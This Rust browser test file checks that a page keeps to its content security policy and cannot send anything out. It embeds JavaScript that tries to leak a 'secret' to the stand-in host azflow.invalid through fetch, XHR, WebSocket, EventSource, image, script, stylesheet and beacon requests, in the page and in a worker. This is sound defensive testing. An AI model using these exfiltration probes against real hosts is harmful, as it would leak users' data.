//! Nothing leaves the tab: no request, no policy violation, and no way to send.

use azflow_browser_tests::{Browser, Outcome, Over, Page, Stage};
use serde_json::json;

/// Tries every way a page has to send, in the page or in a worker; says which went through.
const TRY: &str = r#"
    const send = `
        const tries = {
            fetch: () => fetch('http://azflow.invalid/fetch?secret'),
            xhr: () => new Promise((ok, no) => {
                const x = new XMLHttpRequest();
                x.open('GET', 'http://azflow.invalid/xhr?secret');
                x.onload = ok; x.onerror = no; x.send();
            }),
            websocket: () => new Promise((ok, no) => {
                const w = new WebSocket('ws://azflow.invalid/socket');
                w.onopen = ok; w.onerror = no;
            }),
            events: () => new Promise((ok, no) => {
                const e = new EventSource('http://azflow.invalid/events');
                e.onopen = ok; e.onerror = () => { e.close(); no(); };
            }),
        };
        if (typeof document !== 'undefined') {
            tries.image = () => new Promise((ok, no) => {
                const i = new Image(); i.onload = ok; i.onerror = no; i.src = 'http://azflow.invalid/image?secret';
            });
            tries.script = () => new Promise((ok, no) => {
                const s = document.createElement('script'); s.onload = ok; s.onerror = no;
                s.src = 'http://azflow.invalid/script?secret'; document.head.append(s);
            });
            tries.style = () => new Promise((ok, no) => {
                const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = ok; l.onerror = no;
                l.href = 'http://azflow.invalid/style?secret'; document.head.append(l);
            });
            // A beacon says only whether it was queued; the tripwire says whether it was sent.
            tries.beacon = async () => { navigator.sendBeacon('http://azflow.invalid/beacon', 'secret'); throw 0; };
        }
        const results = async () => {
            const went = [];
            for (const [name, go] of Object.entries(tries)) {
                try { await go(); went.push(name); } catch {}
            }
            return went;
        };
    `;
    window.azflowSent = null;
    const inPage = (0, eval)('(async () => {' + send + 'return results(); })()');
    const source = send + 'results().then((went) => postMessage(went));';
    const worker = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
    const inWorker = new Promise((ok) => { worker.onmessage = (e) => ok(e.data); });
    Promise.all([inPage, inWorker]).then(([page, worker]) => { window.azflowSent = { page, worker }; },
        (e) => { window.azflowSent = { failed: String(e) }; });
"#;

/// The same, where the browser holds the test's own script to the page's policy and forbids `eval`:
/// the worker alone tries.
fn try_to_send(page: &Page<'_>) -> Outcome {
    let with_function =
        TRY.replace("(0, eval)('(async () => {' + send + 'return results(); })()')", "Promise.resolve([])");
    if page.session().run(TRY, &[]).is_err() {
        page.session().run(&with_function, &[])?;
    }
    let sent = page.wait("every way to send was tried", "return window.azflowSent")?;
    if sent["failed"].is_string() {
        page.session().run(&with_function, &[])?;
        let sent = page.wait("every way to send was tried in a worker", "return window.azflowSent")?;
        assert_eq!(sent, json!({ "page": [], "worker": [] }));
    } else {
        assert_eq!(sent, json!({ "page": [], "worker": [] }));
    }
    Ok(())
}

fn keeps_to_itself(browser: Browser, over: Over) -> Outcome {
    let Some(stage) = Stage::set(browser)? else { return Ok(()) };
    // What a browser does on its own account at its start is not the page's doing.
    let before = stage.tripwire().tried().len();
    let page = stage.open(over)?;
    page.click("example")?;
    page.wait_for_status("ready")?;
    page.click("tab-data")?;
    page.click("tab-matrix")?;
    page.click("mode-as-logged")?;
    page.summary()?;
    assert_eq!(page.violations()?, Vec::<String>::new(), "the page broke its own policy");
    try_to_send(&page)?;
    let tried = stage.tripwire().tried();
    let ours: Vec<&String> = tried.iter().skip(before).filter(|t| t.contains("azflow")).collect();
    assert!(ours.is_empty(), "the browser sent: {ours:?}");
    let asked = stage.server().requests();
    let expected = usize::from(over == Over::Http);
    assert_eq!(asked.len(), expected, "the page asked its server for more than itself: {asked:?}");
    if browser == Browser::Chromium {
        let sent = stage
            .session()
            .performance_log()?
            .into_iter()
            .filter(|m| m["method"] == "Network.requestWillBeSent");
        let urls: Vec<String> = sent
            .map(|m| m["params"]["request"]["url"].as_str().unwrap_or_default().to_owned())
            .filter(|url| {
                // Pages of the browser's own, such as its new tab, which no page of the web may load.
                !["blob:", "data:", "chrome:", "chrome-untrusted:"].iter().any(|own| url.starts_with(own))
                    && !url.contains("azflow.invalid")
            })
            .collect();
        assert_eq!(urls.len(), 1, "only the page itself is loaded: {urls:?}");
    }
    Ok(())
}

#[test]
fn chromium_from_disk_keeps_to_itself() -> Outcome {
    keeps_to_itself(Browser::Chromium, Over::File)
}

#[test]
fn chromium_from_a_server_keeps_to_itself() -> Outcome {
    keeps_to_itself(Browser::Chromium, Over::Http)
}

#[test]
fn firefox_keeps_to_itself() -> Outcome {
    keeps_to_itself(Browser::Firefox, Over::File)
}

#[test]
fn webkit_keeps_to_itself() -> Outcome {
    keeps_to_itself(Browser::WebKit, Over::File)
}
